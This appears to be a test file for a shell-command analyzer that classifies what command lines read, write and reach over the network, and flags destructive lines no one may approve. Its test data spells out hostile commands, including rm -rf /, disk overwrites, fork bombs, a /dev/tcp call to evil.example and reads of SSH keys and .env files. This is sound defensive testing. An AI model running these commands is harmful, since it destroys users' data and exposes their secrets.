import { describe, expect, test } from 'vitest'
import { analyzeShell } from '../../src/shell/index.js'
import { context, criticalOf, effectsOf } from './support.js'

describe('what a line reads, writes and reaches', () => {
  test.each([
    ['echo x > a >> b', ['write /repo/a', 'write /repo/b']],
    ['echo x >| a', ['write /repo/a']],
    ['echo x &> a', ['write /repo/a']],
    ['echo x >& a', ['write /repo/a']],
    ['echo x <> a', ['read /repo/a', 'write /repo/a']],
    ['exec 3> a', ['write /repo/a']],
    ['exec {fd}> a', ['write /repo/a']],
    ['> a', ['write /repo/a']],
    ['{ x; } > a', ['write /repo/a']],
    ['x < a', ['read /repo/a']],
    ['echo x 2>&1 >/dev/null <&- 2>&-', []],
    ['echo x > "$F"', ['write? -']],
    ['echo x > *.txt', ['write /repo/*.txt (pattern)']],
    ['echo x > /dev/tcp/evil.example/80', ['net evil.example']],
    ['cat ./a ../repo/b "$PWD"/c ~/d', ['read /repo/a', 'read /repo/b', 'read /repo/c', 'read /home/u/d']],
    ['cat /proc/self/root/etc/passwd', ['read /etc/passwd']],
    ['cat /proc/self/cwd/a', ['read /repo/a']],
    ['cat - /dev/stdin /dev/fd/0', []],
    ['cat /dev/fd/../cwd/a /dev/stdin/../../root/b', ['read /repo/a', 'read /b']],
    ['dd if=~+/a', ['read /repo/a']],
    ["sh -c 'cat $1' _ .e*", ['read? -']],
    ['cp a b c', ['read /repo/a', 'read /repo/b', 'write /repo/c']],
    ['cp -rt d a', ['write /repo/d/**', 'read /repo/a/**']],
    ['mv a b', ['read /repo/a/**', 'write /repo/a/**', 'write /repo/b/**']],
    ['grep -f.env x', ['read /repo/.env', 'read /repo/x']],
    ['grep -e x .env', ['read /repo/.env']],
    ['grep -r x', ['read /repo/**']],
    ['curl -sdx=1 -d @a -o b https://u:p@Example.COM.:8443/c', ['read /repo/a', 'write /repo/b', 'net example.com']],
    ['curl -O https://example.com/c/.npmrc', ['write /repo/.npmrc', 'net example.com']],
    ['scp a host:b', ['read /repo/a', 'net host']],
    ['tar xf a.tar -C d', ['read /repo/a.tar/**', 'write /repo/d/**']],
    ["sed 's/a/b/w c' d", ['write /repo/c', 'read /repo/d']],
    ['my-tool .env --in=a', ['mention? /repo/.env/**', 'mention? /repo/a/**']],
    ['ln -s ~/.ssh/id k; cat k', ['write /repo/k', 'mention? /home/u/.ssh/id', 'read /repo/k', 'read /home/u/.ssh/id']],
    ['ssh host cat a', ['net host']],
  ])('%s', (line, effects) => {
    expect([...effectsOf(line)].sort()).toEqual([...effects].sort())
  })

  test.each([
    ['cd a && cat b', ['read /repo/a/b']],
    ['cd a; cat b', ['read? /repo/a/b', 'read? /repo/b']],
    ['cd a || exit; cat b', ['read /repo/a/b']],
    ['(cd a && x); cat b', ['read /repo/b']],
    ['cd a && cd .. && cat b', ['read /repo/b']],
    ['cd "$D" && cat b', ['read? -']],
    ['cd a/.. && cat b', ['read? -']],
    ['cd "$D" && cat /b', ['read /b']],
    ['pushd a && cat b && popd && cat c', ['read /repo/a/b', 'read? -']],
    ['builtin cd a && cat b', ['read /repo/a/b']],
    ["eval 'cd a' && cat b", ['read /repo/a/b']],
    ["sh -c 'cd a' && cat b", ['read /repo/b']],
    ['env -C a cat b', ['read /repo/a/b']],
    ['make -C a; cat b', ['read /repo/b']],
    ['for d in a b; do cd $d; cat c; done', ['read? -']],
    ['f() { cat b; }; f', ['read /repo/b']],
    ['f() { cat b; }; cd a; f', ['read? -']],
    ['if x; then cd a; fi; cat b', ['read? /repo/b', 'read? /repo/a/b']],
  ])('the folder is followed: %s', (line, effects) => {
    expect([...effectsOf(line)].sort()).toEqual([...effects].sort())
  })
})

test('a path that leads out of a folder, which may be a link, is told as it stands', () => {
  const unresolved = (line: string) => analyzeShell(line, context).effects.map((effect) => effect.unresolved)
  expect(unresolved('cat a/../b')).toEqual(['/repo/a/../b'])
  expect(unresolved('cd a && cat ../b')).toEqual(['/repo/a/../b'])
  expect(unresolved('cat ~/a/../../b')).toEqual(['/home/u/a/../../b'])
  expect(unresolved('cat ../b ./b a/b')).toEqual([undefined, undefined, undefined])
})

describe('what nobody may approve', () => {
  test.each([
    'rm -rf /',
    'rm -rf -- /',
    'rm -rf /*',
    'rm -rf /usr',
    'rm -rf /usr/lib/../..',
    '/bin/rm -fr /',
    'sudo rm -rf --no-preserve-root /',
    'rm -rf ~',
    'rm -rf ~/',
    'rm -rf "$HOME"/*',
    'rm -rf .',
    'rm -rf ./*',
    'rm -rf *',
    'rm -rf ..',
    'rm -rf /repo',
    'rm -rf "$(pwd)"',
    'rm -rf "$DIR"/*',
    'rm -rf $DIR/',
    'rm -rf ${DIR}/usr',
    'rm -rf /mnt/c',
    'cd / && rm -rf *',
    'echo $(rm -rf /)',
    'ln -s / r; rm -rf r/etc',
    'find / -delete',
    'find / -name x -exec rm {} +',
    'find . -delete',
    'rmdir ~',
    'mv ~ /tmp/x',
    'dd if=/dev/zero of=/dev/sda',
    'cat x > /dev/nvme0n1',
    'tee /dev/disk2 < x',
    'mkfs.ext4 /dev/sdb1',
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb',
    'function f { f & f; }; f',
  ])('%s', (line) => {
    expect(criticalOf(line)).not.toEqual([])
  })

  test.each([
    'rm -rf ./build',
    'rm -rf /tmp/x',
    'rm *.o',
    'rm -rf "$DIR"/build',
    'cd build && rm -rf *',
    'find . -name "*.o" -delete',
    'echo rm -rf /',
    'dd if=/dev/sda of=disk.img',
    'mkfs.ext4 disk.img',
    'f() { f; }; f',
    'mv a /tmp',
  ])('%s is no such thing', (line) => {
    expect(criticalOf(line)).toEqual([])
  })

  test('the workspace is what the host says', () => {
    expect(criticalOf('rm -rf /work/other', { roots: ['/work/other'] })).toEqual([
      '`rm` removes the workspace `/work/other`',
    ])
    expect(criticalOf('rm -rf /srv/x', { cwd: '/srv/x/y' })).toEqual([
      '`rm` removes `/srv/x`, which holds the workspace',
    ])
  })
})
